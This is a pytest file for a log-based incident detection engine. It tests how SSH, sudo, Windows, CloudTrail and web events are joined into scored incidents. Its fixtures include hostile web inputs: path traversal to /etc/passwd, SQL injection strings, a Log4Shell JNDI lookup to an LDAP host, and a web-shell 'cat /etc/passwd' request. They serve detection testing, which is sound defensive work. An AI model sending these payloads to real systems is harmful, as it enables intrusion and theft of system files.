"""What one actor did is one incident: what joins, what does not, and how it is told."""

from __future__ import annotations

import orjson

from soc.detection.stories.tactics import tactics_of
from tests.detection.lines import at, failure, failures, missing, success
from tests.logs.reading import read, read_uploads

ATTACK = "/?f=../../../etc/passwd"
DAY = 86_400


def sudo(seconds: float, user: str, host: str = "h") -> str:
    return f"{at(seconds)} {host} sudo: {user} : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh\n"


def test_who_mistypes_and_then_comes_in_from_there_is_no_incident() -> None:
    typed = failures(3) + success(60)
    assert read(typed).incidents == ()
    assert set(read(typed).events["incident_id"].to_list()) == {None}


def test_what_only_looks_like_mistyping_stays_an_incident() -> None:
    others = {
        "four failures": failures(4) + success(60),
        "in before it": success(0) + failure(60),
        "in as somebody else": failures(3) + success(60, user="ann"),
        "in from elsewhere": failures(3) + success(60, "203.0.113.8"),
        "an account of everybody": failure(0, user="guest") + success(60, user="guest"),
        "an attack beside it": failures(3) + success(60) + missing(61, ATTACK),
    }
    assert [name for name, lines in others.items() if not read(lines).incidents] == []


def test_what_an_address_does_in_two_programs_is_one_story_with_every_line_of_it() -> None:
    done = read_uploads(
        ("auth.log", failures(9).encode()),
        ("web.log", (missing(60, ATTACK) + missing(61, "/no")).encode()),
    )
    (story,) = done.incidents
    assert [(step.rule, step.count) for step in story.steps] == [
        ("behaviour.failed-login", 9), ("web.traversal", 1), ("scan.web", 1),
    ]  # fmt: skip
    assert done.events["incident_id"].to_list() == [story.id] * 11
    assert story.count == 11
    assert sum(reason.weight for reason in story.reasons) == story.score


def test_an_actor_who_is_quiet_for_more_than_a_day_begins_a_new_story_of_the_same_fingerprint() -> None:
    near, far = (read(failure(0) + failure(after)) for after in (DAY, DAY + 1))
    assert [one.count for one in near.incidents] == [2]
    assert [one.count for one in far.incidents] == [1, 1]
    assert len({one.fingerprint for one in (*near.incidents, *far.incidents)}) == 1


def test_what_the_account_that_was_broken_into_does_afterwards_is_a_step_and_what_others_do_is_not() -> None:
    done = read(failures(6) + success(60) + sudo(70, "bob") + sudo(7000, "ann") + sudo(72, "bob", "other"))
    (story,) = done.incidents
    assert story.title == (
        "SSH guessing from 203.0.113.9: 6 failures, user bob, 02:00–02:01 UTC, then success as bob,"
        " then acts with privilege"
    )
    assert done.events["incident_id"].to_list() == [story.id] * 8 + [None, None]
    assert [(one.type, one.value) for one in story.entities[:2]] == [("ip", "203.0.113.9"), ("user", "bob")]


def test_guesses_of_five_addresses_of_which_none_does_much_are_one_campaign_that_is_no_alarm() -> None:
    def some(addresses: int) -> str:
        return "".join(failure(n, f"198.51.100.{n}", user="root") for n in range(addresses))

    (campaign,) = read(some(5)).incidents
    assert campaign.title.startswith("SSH guessing on h from 5 addresses: 5 failures, user root")
    assert (campaign.entity, campaign.score, campaign.count) == ("h", 6, 5)
    assert {one.value for one in campaign.entities if one.type == "ip"} == {
        f"198.51.100.{n}" for n in range(5)
    }
    assert sum(reason.weight for reason in campaign.reasons) == 6
    assert len(read(some(4)).incidents) == 4


def test_an_address_that_guesses_much_is_no_part_of_a_campaign() -> None:
    noise = "".join(failure(n, f"198.51.100.{n}") for n in range(6))
    done = read(noise + failures(20, address="203.0.113.5"))
    assert sorted((one.entity, one.score) for one in done.incidents) == [("203.0.113.5", 8), ("h", 5)]


def test_failures_of_nobody_known_belong_to_who_guesses_on_that_host() -> None:
    nameless = f"{at(3)} h sshd[1]: error: PAM: Authentication failure for bob\n"
    (story,) = read(failures(6) + nameless).incidents
    assert (story.entity, story.count) == ("203.0.113.9", 7)


def test_what_goes_wrong_at_one_place_for_many_clients_is_one_incident() -> None:
    lines = "".join(missing(n, "/", address=f"198.51.100.{n}", status=500) for n in range(8))
    (fault,) = read(lines).incidents
    assert (fault.count, fault.classification) == (8, "HTTP Status")


def test_a_chain_of_three_tactics_raises_by_a_point_that_says_so() -> None:
    done = read(
        failures(6)
        + success(60)
        + sudo(70, "bob")
        + f"{at(80)} h useradd[9]: new user: name=eve, UID=0, GID=0, home=/home/eve, shell=/bin/bash\n"
    )
    (story,) = done.incidents
    assert story.score == 10
    assert any("tactics of one actor" in reason.title for reason in story.reasons)


def test_however_the_file_is_cut_the_stories_are_the_same() -> None:
    text = (
        failures(9) + success(60) + sudo(70, "bob") + "".join(failure(n, f"198.51.100.{n}") for n in range(9))
    )
    assert read(text).incidents == read(text, block_bytes=200).incidents


def test_techniques_belong_to_tactics_and_unknown_ones_to_none() -> None:
    assert tactics_of("T1110.001, T1098") == {"credential access", "persistence"}
    assert tactics_of("T9999") == tactics_of("") == set()


def test_an_attack_is_told_of_alone_though_its_address_also_guessed_as_four_others_did() -> None:
    guesses = "".join(failure(n, f"198.51.100.{n}", user="root") for n in range(5))
    attack = "".join(
        missing(60 + n, f"/?id={n}%20union%20select%20password", "198.51.100.0") for n in range(3)
    )
    done = read_uploads(("auth.log", guesses.encode()), ("web.log", attack.encode()))
    (story,) = [one for one in done.incidents if one.entity == "198.51.100.0"]
    assert story.score >= 8
    assert story.title.startswith("SQL injection from 198.51.100.0: 4 lines")
    assert [one.entity for one in done.incidents if one is not story] == [
        f"198.51.100.{n}" for n in range(1, 5)
    ]


def test_an_attack_that_many_addresses_try_once_is_one_incident_and_one_that_came_through_is_its_own() -> (
    None
):
    jndi = "/?x=${jndi:ldap://198.51.100.99/a}"
    tried = "".join(missing(n, jndi, address=f"203.0.113.{n}") for n in range(6))
    (campaign,) = read(tried).incidents
    assert (campaign.count, campaign.score) == (6, 8)
    assert campaign.title.startswith("Log4Shell from 6 addresses: 6 lines")
    done = read(tried + missing(9, "/u/a.php?cmd=cat%20/etc/passwd", address="203.0.113.50", status=200))
    assert sorted(one.count for one in done.incidents) == [1, 6]


def test_a_scanner_inside_that_names_itself_is_no_alarm_unless_something_was_let_through() -> None:
    def scan(address: str, status: int = 404, agent: str = "Mozilla/5.0 Nessus") -> int:
        asked = ("/?id=1%27%20OR%201=1", "/.env", "/index.html")
        text = "".join(missing(n, path, address=address, status=status) for n, path in enumerate(asked))
        return max(one.score for one in read(text.replace("Mozilla/5.0", agent)).incidents)

    assert scan("10.0.0.90") == 7
    assert scan("203.0.113.90") == scan("10.0.0.90", 200) == scan("10.0.0.90", agent="Mozilla/5.0") == 8


def test_a_campaign_that_is_aimed_at_one_account_is_an_alarm() -> None:
    def tries(addresses: int, user: str = "ann.berg") -> str:
        return "".join(
            failure(60 * n + again, f"198.51.100.{n}", user) for n in range(addresses) for again in range(2)
        )

    (aimed,) = read(tries(10)).incidents
    assert aimed.score == sum(reason.weight for reason in aimed.reasons) == 8
    assert aimed.reasons[-1].title == "10 addresses tried to come in as ann.berg"
    (few,) = read(tries(9)).incidents
    others = "".join(failure(n, f"203.0.113.{n}", f"user{n}") for n in range(5))
    (spread,) = read(tries(10) + others).incidents
    assert [one.score for one in (few, spread)] == [5, 5]


def test_a_campaign_of_very_many_strangers_is_an_alarm_and_people_who_mistype_are_none() -> None:
    def tries(addresses: int, ip: str = "198.51.100.{}", each: int = 2) -> str:
        some = ((n, again) for n in range(addresses) for again in range(each))
        return "".join(failure(60 * n + again, ip.format(n), f"user{n % 9}") for n, again in some)

    (many,) = read(tries(30)).incidents
    assert many.score == sum(reason.weight for reason in many.reasons) == 8
    assert many.reasons[-1].title == "60 failed logins from 30 addresses of which none got in"
    let_in = "".join(success(60 * n + 9, f"198.51.100.{n}", f"user{n % 9}") for n in range(30))
    for log in (tries(29), tries(30, each=1), tries(30, ip="10.0.0.{}"), tries(30) + let_in):
        assert max(one.score for one in read(log).incidents) < 8, log[:100]


def test_what_is_refused_to_somebody_else_after_a_break_in_is_no_step_of_it() -> None:
    refused = (
        f"{at(90)} h sudo: ann : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh\n"
    )
    done = read(failures(6) + success(60) + refused)
    assert [one.count for one in done.incidents] == [7, 1]


def windows(seconds: float, code: int, host: str, **data: str) -> str:
    provider = "Microsoft-Windows-Security-Auditing"
    data = {"SubjectUserName": "eve", **data}
    return f'{{"@timestamp": "{at(seconds)}", "EventID": {code}, "Channel": "Security", "Provider": "{provider}", "Computer": "{host}", "EventData": {orjson.dumps(data).decode()}}}\n'


def test_where_an_account_came_from_is_a_step_of_what_it_did_there() -> None:
    here = {"TargetUserName": "eve", "IpAddress": "10.0.1.99", "LogonType": "3"}
    deeds = "".join(windows(300 + n, 4719, host) for n, host in enumerate(("fs1", "fs2")))
    came = windows(0, 4624, "fs1", **here) + windows(1, 4624, "fs2", **here)
    long_ago = windows(-4000, 4624, "fs1", **here)
    done = read(long_ago + came + deeds, "win.jsonl")
    (story,) = done.incidents
    assert (story.count, story.score) == (4, 8)
    assert {("ip", "10.0.1.99"), ("user", "eve")} <= {(one.type, one.value) for one in story.entities}
    assert " from " not in story.title


def test_what_an_account_runs_and_opens_on_the_host_of_its_story_is_a_step_and_what_the_machine_does_is_none() -> (
    None
):
    cleared, ran = windows(60, 1102, "fs1"), windows(0, 4688, "fs1", NewProcessName="C:\\a\\enc.exe")
    opened = windows(30, 4663, "fs1", ObjectName="D:\\a.docx")
    others = windows(31, 4663, "fs2", ObjectName="D:\\b.docx") + windows(
        32, 4688, "fs1", SubjectUserName="fs1$"
    )
    (story,) = read(ran + opened + others + cleared, "win.jsonl").incidents
    assert (story.count, {step.rule for step in story.steps}) == (3, {"sender.log-cleared", "trace.act"})


def test_four_tactics_of_one_actor_weigh_more_than_three() -> None:
    def chain(*names: str) -> dict[str, int]:
        calls = "".join(cloud(n, *name.split("/"), "203.0.113.9") for n, name in enumerate(names))
        (story,) = read(calls, "trail.jsonl").incidents
        return {one.signature: one.weight for one in story.reasons}

    three = ("iam/AttachUserPolicy", "cloudtrail/StopLogging", "secretsmanager/GetSecretValue")
    assert chain(*three)["story.chain"] == 1
    assert "story.chain" not in chain(*three[:2])


def test_several_detections_by_a_sender_of_one_actor_say_more_than_each() -> None:
    def fired(*rules: str, priority: str = "Critical") -> int:
        said = "".join(
            orjson.dumps(
                {"time": at(n), "hostname": "n1", "rule": one, "priority": priority, "output": one}
            ).decode()
            + "\n"
            for n, one in enumerate(rules)
        )
        (story,) = read(said, "rules.jsonl").incidents
        return story.score

    some = ("Odd shell", "Left its namespace", "Shadow file read")
    assert (fired(*some), fired(*some[:2]), fired(*some, priority="Error")) == (8, 7, 6)


def test_new_rights_and_records_taken_away_raise_by_a_point() -> None:
    group = windows(0, 4732, "fs1", TargetUserName="Administrators", MemberName="CN=x")
    (story,) = read(group + windows(60, 4719, "fs1"), "win.jsonl").incidents
    assert "story.covered" in {reason.signature for reason in story.reasons}
    assert story.score == sum(reason.weight for reason in story.reasons)


def cloud(seconds: float, source: str, name: str, address: str) -> str:
    record = {
        "eventVersion": "1.08", "eventTime": at(seconds), "eventSource": f"{source}.amazonaws.com", "eventName": name,
        "sourceIPAddress": address, "userIdentity": {"type": "IAMUser", "userName": "ci-deploy"}, "eventType": "AwsApiCall",
        "requestParameters": {"userName": "helper", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"},
    }  # fmt: skip
    return orjson.dumps(record).decode() + "\n"


def test_new_rights_by_an_account_that_is_in_two_places_at_once_are_an_alarm() -> None:
    usual = "".join(cloud(60 * n, "s3", "GetObject", "192.0.2.10") for n in range(6))
    taken = cloud(100, "sts", "GetCallerIdentity", "203.0.113.9") + cloud(
        130, "iam", "AttachUserPolicy", "203.0.113.9"
    )
    (story,) = read(usual + taken, "trail.jsonl").incidents
    assert (story.entity, story.count) == ("203.0.113.9", 2)
    assert story.score == sum(reason.weight for reason in story.reasons) >= 8
    assert "story.taken-over" in {reason.signature for reason in story.reasons}
    assert all(one.score < 8 for one in read(taken, "trail.jsonl").incidents)


def test_a_title_that_names_nobody_says_where_it_was_said_and_what_the_line_says() -> None:
    long = "ransomware note " + "of many words " * 20
    lines = ["2026-03-01T02:00:00Z SECURITY BREACH in tenant\t42", f"2026-03-01T02:00:01Z {long}"]
    said = {one.title for one in read("".join(f"{line}\n" for line in lines), "payments.log").incidents}
    breach, cut = sorted(said, key=len)
    assert breach == "Breach in payments: “SECURITY BREACH in tenant 42”"
    assert cut.startswith("Ransomware in payments: “ransomware note of many words")
    assert cut.endswith("words of …”")
    assert len(cut) < 125


def test_a_title_without_address_and_host_names_the_account() -> None:
    line = '{"time": "2026-03-01T02:00:00Z", "severity": "ERROR", "message": "Permission denied for user mallory"}\n'
    assert [one.title for one in read(line, "gcp.jsonl").incidents] == ["Access refused in gcp: user mallory"]
